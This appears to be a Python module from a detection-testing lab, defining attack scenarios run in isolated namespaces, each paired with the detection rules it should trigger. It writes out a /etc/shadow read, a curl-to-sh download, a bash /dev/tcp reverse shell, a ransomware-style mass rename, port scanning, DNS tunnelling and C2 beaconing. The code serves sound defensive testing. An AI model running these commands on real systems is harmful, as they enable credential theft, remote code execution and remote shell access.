"""The scenario library: real attacks run inside the lab, each with the detections it expects.

A scenario names the lab hosts it involves (by part: ``staff``, ``staff2``, ``lgwan``,
``mynumber``, ``resolver``, ``proxy``, ``outside``; see :class:`Parts`), the rule ids that must
fire (``expects``) and those that may also fire because the same activity really does violate
them (``tolerates``). Its steps are fixed argv lists run with ``ip netns exec skm-<host>``;
``sh -c``/``bash -c`` appear only with constant strings built from the (trusted) topology's
addresses, for attacks that are shell syntax. Every scenario cleans up after itself: background
steps are stopped and scratch files removed.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from agents.errors import ConfigError
from collector.lab.topology import Host, Topology

# Rule ids the scenarios expect (titles come from the alerts themselves).
SHADOW_READ: Final = "1ba063a5-d930-4d8f-b99f-3a644e3f3ffb"
DOWNLOAD_TO_SHELL: Final = "3b894cb9-e843-49a3-bd3e-48d06763698b"
REVERSE_SHELL: Final = "e74cceea-b7b8-4415-9d5d-5941c486dee2"
NEW_LISTENER: Final = "0f50eee9-74fa-42de-8bf1-4461eb606977"
PROXY_BYPASS: Final = "cedd48e6-4fe3-465e-b52a-8b6131d0b0b8"
MYNUMBER_INBOUND: Final = "baddd8c0-c3da-45d7-9977-f4c56c77fd89"
INTERNET_TO_LGWAN: Final = "4e47ba63-1a8d-47b2-aa94-7acc58de3869"
MASS_RENAME: Final = "9d3e6b2a-4c1f-4e8a-a5b7-2f0e9c8d1a64"
BEACON: Final = "sekimori-beacon"
DNS_TUNNEL: Final = "sekimori-dns-tunnel"
PORT_SCAN: Final = "d90e485d-bd11-48cf-833c-3951f15e6bf2"
MYNUMBER_SENSOR: Final = "ce822cac-5b57-4bd2-a66f-383a110d19cc"


@dataclass(frozen=True, slots=True)
class Parts:
    """The lab hosts scenarios refer to, picked from the topology."""

    staff: Host
    staff2: Host
    lgwan: Host
    mynumber: Host
    resolver: Host
    proxy: Host
    outside: Host

    @classmethod
    def of(cls, topology: Topology) -> Parts:
        def pick(what: str, test: Callable[[Host], bool], nth: int = 0) -> Host:
            found = [h for h in topology.hosts if test(h)]
            if len(found) <= nth:
                raise ConfigError(f"the lab topology has no {what} host for the scenarios")
            return found[nth]

        def staff(h: Host) -> bool:
            return h.segment == "internet" and h.agent

        return cls(
            staff=pick("staff PC", staff),
            staff2=pick("second staff PC", staff, 1),
            lgwan=pick("LGWAN", lambda h: h.segment == "lgwan"),
            mynumber=pick("My Number", lambda h: h.segment == "mynumber"),
            resolver=pick("resolver", lambda h: "dns_resolvers" in h.roles),
            proxy=pick("proxy", lambda h: "security_cloud_proxy" in h.roles),
            outside=pick("outside", lambda h: h.segment == "outside"),
        )

    def host(self, part: str) -> Host:
        value = getattr(self, part, None)
        if not isinstance(value, Host):
            raise ConfigError(f"unknown scenario host part {part!r}")
        return value


@dataclass(frozen=True, slots=True, kw_only=True)
class Step:
    """``argv`` on host ``part``; ``background`` steps run during the rest of the scenario for
    ``hold`` seconds (then they are stopped: the cleanup)."""

    part: str
    argv: tuple[str, ...]
    background: bool = False
    hold: float = 0.0
    timeout: float = 60.0


@dataclass(frozen=True, slots=True, kw_only=True)
class Scenario:
    name: str
    description: str
    parts: tuple[str, ...]  # the hosts involved (Parts attribute names)
    expects: tuple[str, ...]  # rule ids that must fire
    steps: Callable[[Parts], tuple[Step, ...]]
    tolerates: tuple[str, ...] = ()  # rule ids that may also fire (same activity)
    timeout: float = 45.0  # seconds from action start to every expected alert

    def hosts(self, parts: Parts) -> list[str]:
        return [parts.host(p).name for p in self.parts]


def tool(part: str, *args: str, timeout: float = 120.0) -> Step:
    return Step(
        part=part, argv=(sys.executable, "-m", "collector.lab.tools", *args), timeout=timeout
    )


def _port_scan(p: Parts) -> tuple[Step, ...]:
    return (tool("staff", "scan", p.lgwan.address, "8000", "8600"),)


def _mynumber(p: Parts) -> tuple[Step, ...]:
    return (tool("staff", "beacon", p.mynumber.address, "8443", "3", "0.5", "0"),)


def _beacon(p: Parts) -> tuple[Step, ...]:
    return (tool("staff", "beacon", p.outside.address, "443", "12", "1.5", "0.15"),)


def _dns_tunnel(p: Parts) -> tuple[Step, ...]:
    return (tool("staff", "dns-burst", p.resolver.address, "exfil-lab.example.net", "150"),)


def _download(p: Parts) -> tuple[Step, ...]:
    url = f"http://{p.outside.address}/install.sh"
    proxy = f"http://{p.proxy.address}:3128"
    return (Step(part="staff", argv=("sh", "-c", f"curl -s --max-time 5 -x {proxy} {url} | sh")),)


def _reverse_shell(p: Parts) -> tuple[Step, ...]:
    target = f"/dev/tcp/{p.outside.address}/4444"
    return (Step(part="staff", argv=("bash", "-c", f"bash -i >& {target} 0>&1"), timeout=20),)


def _listener(p: Parts) -> tuple[Step, ...]:
    argv = (sys.executable, "-m", "http.server", "8081", "--bind", p.staff2.address)
    return (Step(part="staff2", argv=argv, background=True, hold=4.0),)


def _shadow(_p: Parts) -> tuple[Step, ...]:
    return (Step(part="staff", argv=("cat", "/etc/shadow")),)


RENAME_BURST: Final = (
    'd=$(mktemp -d /tmp/skm-lab-rename.XXXXXX) && cd "$d" && '
    "for i in $(seq 1 40); do echo x > doc$i.txt; done && "
    "for i in $(seq 1 40); do mv doc$i.txt doc$i.txt.locked; done; "
    'cd / && rm -rf "$d"'
)


def _rename(_p: Parts) -> tuple[Step, ...]:
    return (Step(part="staff", argv=("sh", "-c", RENAME_BURST)),)


SCENARIOS: Final[tuple[Scenario, ...]] = (
    Scenario(
        name="credential-access",
        description="cat /etc/shadow on a staff PC (output discarded)",
        parts=("staff",),
        expects=(SHADOW_READ,),
        steps=_shadow,
    ),
    Scenario(
        name="download-exec",
        description="curl a script from the outside web server (via the proxy) piped to sh",
        parts=("staff", "proxy", "outside"),
        expects=(DOWNLOAD_TO_SHELL,),
        steps=_download,
    ),
    Scenario(
        name="reverse-shell",
        description="bash -i >& /dev/tcp/<outside>/4444 0>&1; the listener sends `id; exit`",
        parts=("staff", "outside"),
        expects=(REVERSE_SHELL, PROXY_BYPASS),
        steps=_reverse_shell,
    ),
    Scenario(
        name="new-listener",
        description="python -m http.server opens an unexpected listener on a staff PC",
        parts=("staff2",),
        expects=(NEW_LISTENER,),
        steps=_listener,
    ),
    Scenario(
        name="mass-rename",
        description="40 files renamed to *.locked in a burst of mv processes (ransomware)",
        parts=("staff",),
        expects=(MASS_RENAME,),
        steps=_rename,
    ),
    Scenario(
        name="port-scan",
        description="TCP connect scan of 601 ports on the LGWAN server from a staff PC",
        parts=("staff", "lgwan"),
        expects=(PORT_SCAN,),
        steps=_port_scan,
        # the one open port's connection is reset at once (like nmap -sT): agents may or may
        # not catch it in their socket tables; when they do, it is a real policy violation
        tolerates=(INTERNET_TO_LGWAN,),
    ),
    Scenario(
        name="mynumber-access",
        description="three connections from a staff PC to the My Number business system",
        parts=("staff", "mynumber"),
        expects=(MYNUMBER_INBOUND, MYNUMBER_SENSOR),
        steps=_mynumber,
    ),
    Scenario(
        name="dns-tunnel",
        description="150 queries for random base32 subdomains via the designated resolver",
        parts=("staff", "resolver"),
        expects=(DNS_TUNNEL,),
        steps=_dns_tunnel,
    ),
    Scenario(
        name="c2-beacon",
        description="12 check-ins every 1.5 s (+-15 % jitter) straight to outside:443",
        parts=("staff", "outside"),
        expects=(BEACON, PROXY_BYPASS),
        steps=_beacon,
        timeout=60.0,
    ),
)


def get_scenario(name: str) -> Scenario:
    for scenario in SCENARIOS:
        if scenario.name == name:
            return scenario
    raise ConfigError(
        f"no scenario {name!r}", remedy=f"one of: {', '.join(s.name for s in SCENARIOS)}"
    )
